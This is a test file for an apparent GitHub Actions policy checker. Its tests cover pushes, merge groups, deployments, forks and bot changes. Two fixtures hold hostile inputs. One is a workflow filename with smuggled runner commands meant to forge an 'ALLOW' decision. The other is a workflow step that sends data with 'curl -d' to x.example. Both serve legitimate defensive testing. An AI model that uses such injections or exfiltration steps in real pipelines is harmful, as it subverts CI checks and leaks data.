import { afterAll, beforeAll, expect, test } from "vitest";
import type { Fixture } from "../embedded-github/fixture.ts";
import {
  emptyWorkspace,
  jobToken,
  openChange,
  POLICY,
  pullStep,
  startShop,
  type Workspace,
  WORKFLOW,
  workflow,
} from "./change-in-github.ts";
import { runStep, type Step, type StepResult } from "./runner/run-step.ts";

const NOTHING = "0".repeat(40);

let fixture: Fixture;
let workspace: Workspace;
let main: string;

beforeAll(async () => {
  fixture = await startShop();
  workspace = await emptyWorkspace();
  main = (await fixture.repository.head("main")) ?? "";
});

afterAll(async () => {
  await workspace[Symbol.asyncDispose]();
  await fixture[Symbol.asyncDispose]();
});

const RAISED = { [WORKFLOW]: workflow("write") };

function committed(branch: string, files: Readonly<Record<string, string>>): Promise<string> {
  return fixture.repository.commit({ branch, files, by: "ann" });
}

function step(event: string, payload: object, rest: Partial<Step> = {}): Step {
  const { id, owner, name } = fixture.repository;
  const fullName = `${owner}/${name}`;
  return {
    event,
    payload: { repository: { id, full_name: fullName, default_branch: "main" }, ...payload },
    repository: { id, fullName },
    sha: main,
    workspace: workspace.folder,
    serverUrl: fixture.github.url,
    token: jobToken(fixture, { contents: "read" }),
    ...rest,
  };
}

function told({ commands }: StepResult): readonly string[] {
  return commands.filter(({ name }) => name === "error").map(({ message }) => message);
}

test("a merge group is judged from its base to its head", async () => {
  const head = await committed("gh-readonly-queue/main/pr-1", RAISED);
  const group = {
    base_ref: "refs/heads/main",
    base_sha: main,
    head_ref: "refs/heads/gh-readonly-queue/main/pr-1",
    head_sha: head,
  };
  const result = await runStep(step("merge_group", { merge_group: group }));
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

test.each([
  { what: "on from what it was", before: (): string => main },
  { what: "that is new, from the default branch on", before: (): string => NOTHING },
])("a push to a branch $what", async ({ before }) => {
  const after = await committed("topic-of-a-push", RAISED);
  const payload = { ref: "refs/heads/topic-of-a-push", before: before(), after };
  const result = await runStep(step("push", payload));
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

test("a push that deletes a branch has no change", async () => {
  const payload = { ref: "refs/heads/gone", before: main, after: NOTHING };
  const result = await runStep(step("push", payload));
  expect(result).toMatchObject({ succeeded: false, outputs: {} });
  expect(told(result)).toEqual([expect.stringContaining("no change to judge")]);
});

test("a push to the default branch that takes its policies away is judged by them", async () => {
  const after = await committed("emptied", { ...RAISED, [POLICY]: "version: 1\npolicies: []\n" });
  const payload = { ref: "refs/heads/main", before: main, after };
  const result = await runStep(step("push", payload));
  expect(result.succeeded).toBe(false);
  expect(result.outputs["policy-ids"]).toContain("new-permissions");
});

test("the first commits of a repository are simulated: nothing stood there before them", async () => {
  const after = await committed("first", RAISED);
  const payload = { ref: "refs/heads/main", before: NOTHING, after };
  const result = await runStep(step("push", payload));
  expect(result).toMatchObject({ succeeded: true, outputs: { decision: "DENY" } });
  expect(result.summary).toContain("simulation");
});

test("a policy that is added enforces what nobody had enforced", async () => {
  const after = await committed("first-enforced", RAISED);
  const payload = { ref: "refs/heads/main", before: NOTHING, after };
  const result = await runStep(
    step("push", payload, { with: { policy: "bailiff:recommended@1\n" } }),
  );
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

test("a dispatched run judges its commit against the default branch", async () => {
  const head = await committed("dispatched", RAISED);
  const result = await runStep(
    step("workflow_dispatch", {}, { sha: head, ref: "refs/heads/dispatched" }),
  );
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

const deploymentOf = (sha: string) => ({
  deployment: { sha, ref: "topic", environment: "production" },
});

test("of a deployment is judged what it has beyond the default branch", async () => {
  const head = await committed("deployed", RAISED);
  const rest = { sha: head, ref: "refs/heads/deployed" };
  const result = await runStep(step("deployment", deploymentOf(head), rest));
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
  expect(result.summary).toContain("Nothing is recorded");
  const ofMain = await runStep(step("deployment", deploymentOf(main), { sha: main }));
  expect(ofMain).toMatchObject({ succeeded: true, outputs: { decision: "ALLOW" } });
});

test("a deployment is known to policies by its kind and environment", async () => {
  const policy = `version: 1
policies:
  - id: no-production
    decision: DENY
    only: { action.kind: deployment, action.name: production }
    message: nothing goes to production
`;
  await committed("main", { "production.yml": policy });
  const more = { sha: main, with: { policy: "production.yml" } };
  const result = await runStep(step("deployment", deploymentOf(main), more));
  expect(result.outputs["policy-ids"]).toBe("no-production");
});

test("a policy that does not load denies, whatever the change is", async () => {
  await committed("main", { "broken.yml": "version: 1\npolicies:\n  - id: a\n" });
  const head = await committed("under-broken", { "a.txt": "a\n" });
  const payload = { ref: "refs/heads/under-broken", before: main, after: head };
  const result = await runStep(step("push", payload, { with: { policy: "broken.yml" } }));
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
  expect(result.outputs["policy-ids"]).toBe("bailiff/policy-error");
  expect(result.summary).toContain("broken.yml");
});

test("a bot's change is judged as a bot's, with a token that may only read", async () => {
  const policy = `version: 1
policies:
  - id: no-bots
    decision: DENY
    only: { action.author.bot: true }
    message: bots propose nothing here
`;
  await committed("main", { "bots.yml": policy });
  const { number } = await openChange(fixture, { "notes.txt": "\n" }, "bots");
  const asked = await pullStep(fixture, number, workspace.folder);
  const { pull_request: pull, ...payload } = asked.payload as { pull_request: object };
  const user = { id: 49699333, login: "dependabot[bot]", type: "Bot" };
  const proposed = { ...asked, with: { policy: "bots.yml" } };
  const bots = { ...payload, pull_request: { ...pull, user }, sender: user };
  expect((await runStep({ ...proposed, payload: bots })).outputs["policy-ids"]).toBe("no-bots");
  expect((await runStep(proposed)).outputs["decision"]).toBe("ALLOW");
});

test("inputs name the ends of the change", async () => {
  const head = await committed("named", RAISED);
  const named = { base: head, head: main };
  const result = await runStep(step("workflow_dispatch", {}, { sha: head, with: named }));
  expect(result).toMatchObject({ succeeded: true, outputs: { decision: "ALLOW" } });
});

test("a fork's change is judged with a token that may only read", async () => {
  const fork = await fixture.repository.fork("eve");
  await fork.commit({ branch: "fork", files: RAISED, by: "eve", parent: "main" });
  const { number } = await fixture.repository.openPull({
    ...{ by: "eve", title: "From a fork", head: "fork", from: fork },
  });
  const asked = await pullStep(fixture, number, workspace.folder);
  const result = await runStep({ ...asked, token: fixture.github.user("eve").token });
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

test("without a token a public repository is judged all the same", async () => {
  const { number } = await openChange(fixture, RAISED);
  const asked = await pullStep(fixture, number, workspace.folder);
  const result = await runStep({ ...asked, token: "" });
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
});

test("names and titles of a change command no runner", async () => {
  const name = "a::error title=x::y\n::set-output name=decision::ALLOW\r::stop-commands::z %0A.yml";
  const files = { [`.github/workflows/${name}`]: workflow("write") };
  const head = await committed("hostile", files);
  const payload = { ref: "refs/heads/hostile", before: main, after: head };
  const result = await runStep(step("push", payload));
  expect(result).toMatchObject({ succeeded: false, outputs: { decision: "DENY" } });
  expect(new Set(result.commands.map((command) => command.name))).toEqual(
    new Set(["add-mask", "error"]),
  );
});

test.each([
  { failOn: "deny", succeeded: true },
  { failOn: "warn", succeeded: false },
])(
  "a warning with fail-on $failOn lets the step pass: $succeeded",
  async ({ failOn, succeeded }) => {
    const files = {
      "lib/tool.bin": "\0\0",
      [WORKFLOW]: `${workflow("read")}      - run: curl -d a https://x.example\n`,
    };
    const head = await committed("warned", files);
    const payload = { ref: "refs/heads/warned", before: main, after: head };
    const result = await runStep(step("push", payload, { with: { "fail-on": failOn } }));
    expect(result).toMatchObject({ succeeded, outputs: { decision: "WARN" } });
    expect(result.commands.some(({ name }) => name === "warning")).toBe(true);
    expect(told(result)).toEqual(
      succeeded ? [] : [expect.stringMatching(/^Fails, since fail-on is warn: warnings from /)],
    );
    expect(result.summary.includes("**Fails on warnings.**")).toBe(!succeeded);
  },
);
